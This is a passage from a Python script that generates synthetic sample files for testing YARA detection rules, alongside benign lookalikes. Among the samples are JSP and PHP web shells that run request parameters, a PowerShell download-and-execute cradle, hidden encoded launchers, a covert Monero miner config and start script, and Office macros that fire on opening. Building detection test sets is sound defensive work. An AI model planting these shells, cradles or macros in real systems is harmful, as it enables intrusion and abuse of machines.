        "if (c != null) {\n    Process p = Runtime.getRuntime().exec(c);\n    p.waitFor();\n}\n%>\n").encode("ascii")
    s["jsp-processbuilder.jsp"] = (
        jsp_head +
        "<%\nProcess p = new ProcessBuilder(\"/bin/sh\", \"-c\", request.getParameter(\"c\"))"
        ".redirectErrorStream(true).start();\n"
        "InputStream in = p.getInputStream();\n%>\n").encode("ascii")
    s["jsp-benign.jsp"] = (
        jsp_head +
        "<%\nString name = request.getParameter(\"name\");\n"
        "int cpus = Runtime.getRuntime().availableProcessors();\n"
        "Process p = Runtime.getRuntime().exec(\"uptime\");\n"
        "Process q = new ProcessBuilder(\"df\", \"-h\").start();\n"
        "String token = java.util.Base64.getEncoder().encodeToString(name.getBytes(\"UTF-8\"));\n"
        "%>\n<p>Hello <%= org.owasp.encoder.Encode.forHtml(name) %>, <%= cpus %> CPUs.</p>\n").encode("ascii")
    s["jsp-class-loader.jsp"] = (
        jsp_head +
        "<%!\nclass U extends ClassLoader {\n"
        "    U(ClassLoader c) { super(c); }\n"
        "    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }\n}\n%>\n"
        "<%\nbyte[] b = java.util.Base64.getDecoder().decode(request.getReader().readLine());\n"
        "new U(this.getClass().getClassLoader()).g(b).newInstance().equals(pageContext);\n%>\n").encode("ascii")

    # ---- PowerShell -----------------------------------------------------
    encoded = b64(("Write-Output '%s: harmless, prints this line only.'" % SAMPLE).encode("utf-16-le"))
    s["ps-encoded.bat"] = (
        "@echo off\r\nrem %s: synthetic, harmless.\r\n"
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc %s\r\n" % (SAMPLE, encoded)).encode("ascii")
    s["ps-encoded-help.txt"] = (
        "PowerShell accepts a base64 command with -EncodedCommand:\n\n"
        "    $bytes = [System.Text.Encoding]::Unicode.GetBytes('Get-Date')\n"
        "    $encoded = [Convert]::ToBase64String($bytes)\n"
        "    powershell.exe -EncodedCommand $encoded\n"
        "    powershell.exe -enc <Base64EncodedCommand>\n"
        "    powershell.exe -encodedcommand ZQBjAGgAbwAgACIAaABpACIA\n").encode("ascii")
    s["ps-cradle.ps1"] = (
        "# %s: synthetic; the host name does not exist.\n"
        "IEX (New-Object Net.WebClient).DownloadString('http://update.example.invalid/a.ps1')\n"
        % SAMPLE).encode("ascii")
    s["ps-download-file.ps1"] = (
        "# Download reports to disk; nothing downloaded is run.\n"
        "$wc = New-Object System.Net.WebClient\n"
        "$wc.DownloadFile('https://reports.example.invalid/daily.csv', 'C:\\Data\\daily.csv')\n"
        "Invoke-WebRequest -Uri 'https://reports.example.invalid/weekly.csv' -OutFile 'C:\\Data\\weekly.csv'\n"
        "$json = (New-Object Net.WebClient).DownloadString('https://reports.example.invalid/status.json') | ConvertFrom-Json\n"
        "Invoke-Expression -Command 'Get-Date'\n").encode("ascii")
    # an install one-liner quoted in a longer build guide (HTTPS, named host)
    options = "".join("| `-%s` | %s |\n" % (opt, text) for opt, text in [
        ("Configuration", "Debug or Release (default Release)."),
        ("Platform", "x64 or arm64 (default: the platform of the build machine)."),
        ("Jobs", "Number of parallel compiler jobs (default: one per CPU)."),
        ("NoTests", "Build without running the unit tests."),
        ("Package", "Also build the MSI package after the build."),
        ("Sign", "Sign the binaries with the certificate named in signing.json."),
        ("Clean", "Remove the build folder before building."),
        ("Verbose", "Print every compiler command line."),
    ])
    s["ps-install-doc.md"] = (
        "# Building on Windows\n\n"
        "This guide explains how to build the agency records client on Windows 10,\n"
        "Windows 11 and Windows Server 2019 or later. The build needs about 8 GB of\n"
        "disk space and takes 20 to 40 minutes on a machine with four cores.\n\n"
        "## Prerequisites\n\n"
        "* Visual Studio 2022 with the \"Desktop development with C++\" workload\n"
        "* Python 3.11 or later, on the PATH\n"
        "* Git for Windows\n"
        "* NASM 2.16 (only for the optimised cryptography routines)\n\n"
        "The package manager used by the build scripts installs all of them. In\n"
        "an elevated PowerShell window, install the package manager first:\n\n"
        "```powershell\n"
        "Set-ExecutionPolicy Bypass -Scope Process -Force\n"
        "iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example.invalid/install.ps1'))\n"
        "```\n\n"
        "then install the tools with `pkgtool install visualstudio2022 python git nasm`.\n"
        "Close and open the window again so that the new PATH applies.\n\n"
        "## Building\n\n"
        "From a Developer PowerShell, in the folder of the clone:\n\n"
        "```powershell\n.\\build.ps1 -Configuration Release\n```\n\n"
        "The options of `build.ps1`:\n\n"
        "| Option | Meaning |\n| --- | --- |\n" + options + "\n"
        "The binaries are written to `out\\Release\\bin`; the test reports to\n"
        "`out\\Release\\reports`. A build that fails because a file is locked\n"
        "usually means that an earlier build is still running: close it or wait\n"
        "for it to end, then run the build again with `-Clean`.\n\n"
        "## Troubleshooting\n\n"
        "* **The compiler is not found.** Open a Developer PowerShell rather than\n"
        "  a normal one, or run `Launch-VsDevShell.ps1` from the Visual Studio\n"
        "  installation folder first.\n"
        "* **Python is too old.** `python --version` must print 3.11 or later;\n"
        "  remove older versions from the PATH.\n"
        "* **Tests time out.** The tests start a local web server on port 8443;\n"
        "  make sure that no other program listens there and that the firewall\n"
        "  allows local connections.\n"
        "* **Signing fails.** The signing certificate must be in the current\n"
        "  user's store, and its thumbprint in `signing.json` must match.\n\n"
        "## Building the installer\n\n"
        "The MSI package needs the WiX toolset 3.14, which the package manager\n"
        "installs with `pkgtool install wixtoolset`. Build it with\n"
        "`.\\build.ps1 -Package`; the package is written to `out\\Release\\msi`.\n"
        "The package is signed when `-Sign` is also given. Test the package on a\n"
        "clean virtual machine before you hand it to the deployment team: install,\n"
        "start the client once, uninstall, and check that no files are left in\n"
        "`C:\\Program Files\\Agency Records` and no keys under\n"
        "`HKLM\\Software\\Agency\\Records`.\n\n"
        "## Reporting problems\n\n"
        "Open an issue in the project tracker with the output of the failed build\n"
        "(run it again with `-Verbose`), the Windows version (`winver`) and the\n"
        "versions of Visual Studio and Python. Do not attach signing\n"
        "certificates or other secrets to an issue.\n").encode("ascii")
    s["ps-base64-iex.ps1"] = (
        "# %s: synthetic, harmless.\n"
        "$b = '%s'\n"
        "$c = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($b))\n"
        "Invoke-Expression $c\n" % (SAMPLE, encoded)).encode("ascii")
    s["ps-base64-benign.ps1"] = (
        "# Install a certificate delivered as base64 text.\n"
        "$pem = Get-Content -Raw .\\agency-ca.b64\n"
        "$bytes = [Convert]::FromBase64String($pem)\n"
        "[IO.File]::WriteAllBytes(\"$env:TEMP\\agency-ca.cer\", $bytes)\n"
        "Import-Certificate -FilePath \"$env:TEMP\\agency-ca.cer\" -CertStoreLocation Cert:\\LocalMachine\\Root\n").encode("ascii")
    s["ps-hidden-bypass.cmd"] = (
        "@echo off\r\nrem %s: synthetic; the script named does not exist.\r\n"
        "powershell -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\ProgramData\\vigil-test.ps1\r\n"
        % SAMPLE).encode("ascii")
    s["ps-bypass-visible.cmd"] = (
        "@echo off\r\nrem Build script: runs in a visible window.\r\n"
        "powershell -NoProfile -ExecutionPolicy Bypass -File .\\build.ps1\r\n"
        "powershell -WindowStyle Normal -Command \"Write-Host done\"\r\n").encode("ascii")

    # ---- Miners ---------------------------------------------------------
    wallet = fake_monero("vigil-test-wallet")
    s["xmrig-config.json"] = (
        '{\n'
        '    "autosave": true,\n'
        '    "donate-level": 1,\n'
        '    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 50},\n'
        '    "randomx": {"init": -1, "mode": "auto", "1gb-pages": false},\n'
        '    "pools": [\n'
        '        {\n'
        '            "algo": "rx/0",\n'
        '            "coin": "monero",\n'
        '            "url": "stratum+tcp://pool.example.invalid:3333",\n'
        '            "user": "%s",\n'
        '            "pass": "x",\n'
        '            "keepalive": true,\n'
        '            "tls": false\n'
        '        }\n'
        '    ],\n'
        '    "background": true\n'
        '}\n' % wallet).encode("ascii")
    s["db-pool-config.json"] = (
        '{\n'
        '    "service": "records-api",\n'
        '    "pools": [\n'
        '        {"name": "primary", "url": "postgres://db1.example.invalid:5432/records", "max": 20},\n'
        '        {"name": "replica", "url": "postgres://db2.example.invalid:5432/records", "max": 10}\n'
        '    ],\n'
        '    "algo": "round-robin",\n'
        '    "cache": {"url": "redis://cache.example.invalid:6379", "ttl": 300}\n'
        '}\n').encode("ascii")
    s["miner-start.sh"] = (
        "#!/bin/sh\n# %s: synthetic; the pool does not exist and the wallet is made up.\n"
        "cd \"$HOME/.cache\" || exit 0\n"
        "exit 0\n"
        "nohup ./kworker -o stratum+tcp://pool.example.invalid:3333 -u %s -p x --donate-level 1 -B >/dev/null 2>&1 &\n"
        % (SAMPLE, wallet)).encode("ascii")
    s["stratum-howto.txt"] = (
        "Mining pool connection settings\n\n"
        "Point your miner at stratum+tcp://pool.example.invalid:3333 (or\n"
        "stratum+ssl://pool.example.invalid:443) and give your wallet address as\n"
        "the user name: -o stratum+tcp://pool.example.invalid:3333 -u YOUR_WALLET_ADDRESS -p x\n").encode("ascii")
    return s


def binary_samples():
    s = {}
    pe = tiny_pe()
    elf = tiny_elf()

    # ---- Disguised executables ------------------------------------------
    g = gif()
    s["gif-with-pe.gif"] = g + bytes(-len(g) % 16) + pe
    j = jpeg()
    s["jpeg-with-elf.jpg"] = j + bytes(-len(j) % 16) + elf
    s["png-normal.png"] = png(4, 4, [(b"tEXt", b"Software\0" + SAMPLE.encode())])
    # "MZ", "PE\0\0" + i386 and an ELF magic, but not real headers: the MZ
    # e_lfanew does not point at the PE signature, the ELF type is 0
    fake = bytearray(0x80)
    fake[0:2] = b"MZ"
    struct.pack_into("<I", fake, 0x3C, 0x80)
    fake[0x40:0x46] = b"PE\0\0\x4c\x01"
    fake[0x50:0x57] = b"\x7fELF\x02\x01\x01"
    s["png-header-lookalike.png"] = png(4, 4, [(b"viGl", bytes(fake))])
    s["pe-plain.exe"] = pe
    s["gif-php.gif"] = gif(("<?php exit; system($_GET['c']); ?>").encode())
    s["jpeg-php-comment.jpg"] = jpeg([(0xFE, b"<?php exit; eval(base64_decode($_POST['z'])); ?>")])
    xmp = ('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
           '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           '<rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="%s"/>'
           '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>' % SAMPLE)
    s["jpeg-xmp.jpg"] = jpeg([(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp.encode()),
                              (0xFE, b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v80), quality = 90\n")])

    s["pdf-embedded-exe.pdf"] = pdf_with_attachment(b"update.exe", pe, b"Invoice")
    s["pdf-attachment.pdf"] = pdf_with_attachment(
        b"notes.txt", b"Meeting notes. Run the installer (setup.exe) only from the intranet.\n",
        b"Quarterly report")
    s["pdf-js-launch.pdf"] = pdf_with_actions([
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('" + SAMPLE.encode() + b"'\\);) /Next 7 0 R >>",
        b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c echo " + SAMPLE.encode() + b") >> >>",
    ], b"Invoice")
    s["pdf-js-print.pdf"] = pdf_with_actions([
        b"<< /Type /Action /S /JavaScript /JS (this.print\\({bUI: true}\\);) >>",
    ], b"Form")

    # ---- Office ---------------------------------------------------------
    s["doc-autoopen-shell.doc"] = word_doc(
        "Invoice 2026-118\r",
        (["ThisDocument", "AutoOpen", "Shell", "vbHide", "cmd.exe /c echo " + SAMPLE],
         "Sub AutoOpen()\r\n"
         "    Shell \"cmd.exe /c echo " + SAMPLE + "\", vbHide\r\n"
         "End Sub\r\n"))
    s["xls-workbook-open-download.xls"] = excel_xls(
        (["ThisWorkbook", "URLDownloadToFileA", "urlmon", "Workbook_Open", "Environ",
          "http://update.example.invalid/vigil-test.txt", "TEMP", "\\vigil-test.txt"],
         "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" _\r\n"
         "    (ByVal a As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long\r\n"
         "Private Sub Workbook_Open()\r\n"
         "    URLDownloadToFileA 0, \"http://update.example.invalid/vigil-test.txt\", Environ(\"TEMP\") & \"\\vigil-test.txt\", 0, 0\r\n"
         "End Sub\r\n"))
    s["doc-macro-benign.doc"] = word_doc(
        "Leave request form\r",
        (["ThisDocument", "Document_Open", "CreateObject", "Scripting.Dictionary", "MsgBox", "Add",
          "Welcome. Fill in the form and save it."],
         "Private Sub Document_Open()\r\n"
         "    Dim d\r\n"
         "    Set d = CreateObject(\"Scripting.Dictionary\")\r\n"
         "    d.Add \"form\", \"leave\"\r\n"
         "    MsgBox \"Welcome. Fill in the form and save it.\"\r\n"
         "End Sub\r\n"))
    s["doc-no-macro.doc"] = word_doc(
        "Security awareness: a document whose macro is named AutoOpen or Document_Open "
        "and calls Shell, CreateObject(\"WScript.Shell\"), URLDownloadToFile or powershell "
        "is dangerous. Never enable macros in a document from e-mail.\r")

    autoexec_vba = vba_project_bin(
        "ThisDocument",
        ["ThisDocument", "Document_Open", "CreateObject", "WScript.Shell", "Run",
         "cmd /c echo " + SAMPLE],
        "Private Sub Document_Open()\r\n"
        "    CreateObject(\"WScript.Shell\").Run \"cmd /c echo " + SAMPLE + "\", 0\r\n"
        "End Sub\r\n")
    benign_vba = vba_project_bin(
        "ThisDocument",
        ["ThisDocument", "Document_Open", "MsgBox", "Fill in the form and save it."],
        "Private Sub Document_Open()\r\n"
        "    MsgBox \"Fill in the form and save it.\"\r\n"
        "End Sub\r\n")
    workbook_vba = vba_project_bin(
        "ThisWorkbook",
        ["ThisWorkbook", "Workbook_Open", "Shell", "cmd.exe /c echo " + SAMPLE],
        "Private Sub Workbook_Open()\r\n"
        "    Shell \"cmd.exe /c echo " + SAMPLE + "\", vbHide\r\n"
        "End Sub\r\n")
    s["docm-stored-autoexec.docm"] = docx("Invoice 2026-118", autoexec_vba)
    s["docm-stored-benign.docm"] = docx("Leave request form", benign_vba)
    s["xlsm-deflated.xlsm"] = xlsm(workbook_vba)
    s["docx-plain.docx"] = docx(
        "Macro-enabled files keep their code in word/vbaProject.bin; a macro named "
        "AutoOpen that calls Shell or CreateObject(&quot;WScript.Shell&quot;) runs on opening.")
    return s


def main():
    if len(sys.argv) != 2:
        sys.stderr.write("usage: make-yara-samples.py OUTPUT-FOLDER\n")
        return 2
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    samples = {}
    samples.update(text_samples())
    samples.update(binary_samples())
    for name in sorted(samples):
        data = samples[name]
        assert len(data) < 65536, name
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    print("%d samples written to %s" % (len(samples), folder))
    return 0


if __name__ == "__main__":
    sys.exit(main())
